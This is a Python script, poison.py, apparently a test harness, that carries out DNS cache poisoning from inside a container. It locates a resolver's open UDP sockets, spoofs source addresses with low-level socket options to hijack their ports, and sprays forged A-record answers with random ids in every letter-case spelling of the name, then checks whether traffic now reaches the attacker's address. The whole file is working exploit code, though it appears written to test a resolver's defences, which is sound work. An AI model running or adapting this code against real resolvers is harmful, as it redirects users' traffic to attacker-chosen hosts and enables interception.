"""Forged answers for whoever asks a resolver from this network namespace. Runs inside a container.

`poison.py guarded|alone loopback|turned NAME ADDRESS SERVER PORT SECONDS`: tries to have NAME lead to ADDRESS in the eyes of those who asked SERVER, and knocks
there. `loopback`: as if the sidecar's own DNS server answered, over the loopback; `turned`: as if SERVER did, from its address, by way of the host.
`alone`, a victim of our own is attacked that believes every answer from its resolver with the right id. What is printed is for the reader of a
failed test only.
"""
import os
import random
import socket
import struct
import sys
import time

PKTINFO = 8
FREEBIND = 15
MORE = 0x8000
UDP, CORK = 17, 1
DNS = ("127.0.0.1", 15353)
# A forger has its port on another address of the loopback, and its datagrams come from this one all the same.
ELSEWHERE = "127.0.0.2"
# So many forged answers, then as many questions as are wanted on the way: both lines must move.
SPRAYED = 600
ASKED = 24


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("198.51.100.1", 9))
        return s.getsockname()[0]


def channels(server, port):
    """Ports of the UDP sockets that are connected to the resolver."""
    found = []
    for line in open("/proc/net/udp").read().splitlines()[1:]:
        ours, theirs = [part.split(":") for part in line.split()[1:3]]
        if (socket.inet_ntoa(struct.pack("<I", int(theirs[0], 16))), int(theirs[1], 16)) == (server, port):
            found.append(int(ours[1], 16))
    return found


def coming_from(address):
    return [(socket.IPPROTO_IP, PKTINFO, struct.pack("=I4s4s", 0, socket.inet_aton(address), b"\0" * 4))]


def bound(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ELSEWHERE, port))
    return s


def question(name):
    return b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)


def ask(name, ident=0):
    return struct.pack("!6H", ident, 0x0100, 1, 0, 0, 0) + question(name)


def spellings(name):
    """The name in every case its letters can have."""
    lists = [sorted({c.lower(), c.upper()}) for c in name]
    out = [""]
    for choice in lists:
        out = [head + c for head in out for c in choice]
    return out


def take_over(ports, server, port):
    """One datagram from each of the channels' own addresses: the kernel now has a connection there that is ours."""
    said = []
    for channel in ports:
        try:
            with bound(channel) as s:
                s.sendmsg([ask("localhost")], coming_from(own_address()), 0, (server, port))
            said.append("sent")
        except OSError as error:
            said.append(error.strerror)
    return ", ".join("%d %s" % (said.count(what), what) for what in sorted(set(said)))


def forged(name, address):
    """Answers that say so, in every spelling of the name, without their ids."""
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(address)
    return [struct.pack("!5H", 0x8180, 1, 1, 0, 0) + question(spelled) + record for spelled in spellings(name)]


def spray_loopback(tails, ports, server, port, end):
    """Answers of any id and case to every channel, as if the sidecar's own DNS server gave them."""
    me, info = own_address(), coming_from(DNS[0])
    s = bound(DNS[1])
    while time.monotonic() < end:
        for _ in range(SPRAYED):
            try:
                s.sendmsg([random.randbytes(2), random.choice(tails)], info, 0, (me, random.choice(ports)))
            except OSError:
                pass
        time.sleep(0.005)


def spray_turned(tails, ports, server, port, end):
    """The same from the resolver's own address: a datagram finds its way out first, then a connect that fails writes source and destination anew."""
    me = own_address()
    info = coming_from(me)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, FREEBIND, 1)
    s.bind((server, port))
    while time.monotonic() < end:
        for _ in range(SPRAYED):
            try:
                s.sendmsg([random.randbytes(2), random.choice(tails)], info, MORE, (server, 9))
                try:
                    s.connect((me, random.choice(ports)))
                except OSError:
                    pass
                s.setsockopt(UDP, CORK, 1)
                s.setsockopt(UDP, CORK, 0)
            except OSError:
                pass
        time.sleep(0.002)


def flood(name, server, port, end):
    """Questions for the name, so that many of them wait for an answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((server, port))
        s.setblocking(False)
        while time.monotonic() < end:
            for _ in range(ASKED):
                try:
                    s.send(ask(name, random.randrange(65536)))
                except OSError:
                    pass
            time.sleep(0.01)


def victim(server, port, end):
    """Asks as the sidecar does, from sixteen connected sockets, and goes to where an answer leads."""
    waiting = {}
    for _ in range(16):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((own_address(), 0))
        s.connect((server, port))
        s.settimeout(0.001)
        waiting[s] = {random.randbytes(2) for _ in range(64)}
    while time.monotonic() < end:
        for s, ids in waiting.items():
            try:
                answer = s.recv(512)
            except OSError:
                continue
            if answer[:2] in ids:
                knock(socket.inet_ntoa(answer[-4:]))
                return


def knock(address):
    try:
        with socket.create_connection((address, 443), 0.2) as s:
            s.sendall(b"knock")
            return s.recv(64) != b""
    except OSError:
        return False


def child(work, *words):
    pid = os.fork()
    if pid == 0:
        work(*words)
        os._exit(0)
    return pid


def main(where, way, name, address, server, port, seconds):
    begin = time.monotonic()
    end, port = begin + float(seconds), int(port)
    children = []
    if where == "alone":
        children.append(child(victim, server, port, end))
        time.sleep(0.3)
    ports = channels(server, port)
    # Not for the other way: the host would take what comes back for a connection of its own, and give it another port.
    taken = take_over(ports, server, port) if way == "loopback" else "none"
    print("%d channels, taken over: %s" % (len(ports), taken))
    spray = {"loopback": spray_loopback, "turned": spray_turned}[way]
    children.append(child(spray, forged(name, address), ports, server, port, end))
    if where == "alone":
        os.waitpid(children.pop(0), 0)
    else:
        children.append(child(flood, name, server, port, end))
        while time.monotonic() < end and not knock(address):
            time.sleep(0.1)
    print("ended after %.1f s of %s" % (time.monotonic() - begin, seconds))
    for pid in children:
        os.kill(pid, 9)
        os.waitpid(pid, 0)


if __name__ == "__main__":
    main(*sys.argv[1:])
